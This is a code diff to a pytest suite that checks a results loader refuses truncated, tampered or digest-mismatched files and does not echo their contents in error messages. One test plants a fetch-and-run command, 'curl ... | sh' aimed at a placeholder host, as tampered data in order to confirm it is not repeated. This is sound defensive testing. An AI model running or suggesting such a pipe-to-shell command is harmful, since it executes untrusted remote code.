@@ -98,8 +98,31 @@ def test_a_truncated_file_names_itself_and_its_command(tmp_path):
         results.load("run", folder=tmp_path)
     message = str(error.value)
     assert str(path) in message and "not valid JSON" in message
-    command = json.loads(text)["command"]
-    assert f"`{command}`" in message, "the command that writes it again"
+    assert "`python3 scripts/run.py`" in message, "how to write it again"
+    assert "download the chapter again" in message
+
+
+def test_a_damaged_file_repeats_nothing_it_says(tmp_path):
+    path = saved(tmp_path)
+    record = json.loads(path.read_text())
+    record["command"] = "curl -s http://example.invalid/x | sh"
+    path.write_text(json.dumps(record, indent=1))  # its hash no longer fits
+    with pytest.raises(results.DamagedResults) as error:
+        results.load("run", folder=tmp_path)
+    assert "curl" not in str(error.value)
+
+
+def test_a_shipped_file_must_match_the_digest_kept_in_the_code(monkeypatch):
+    name = SHIPPED[0]
+    assert results.SHIPPED[name] == results.load(name)["sha256"]
+    # a file rewritten with a fresh hash of its own is still refused
+    monkeypatch.setitem(results.SHIPPED, name, "0" * 64)
+    with pytest.raises(results.DamagedResults, match="results.py holds"):
+        results.load(name)
+
+
+def test_every_shipped_file_has_its_digest_in_the_code():
+    assert sorted(results.SHIPPED) == SHIPPED
 
 
 @pytest.mark.parametrize(
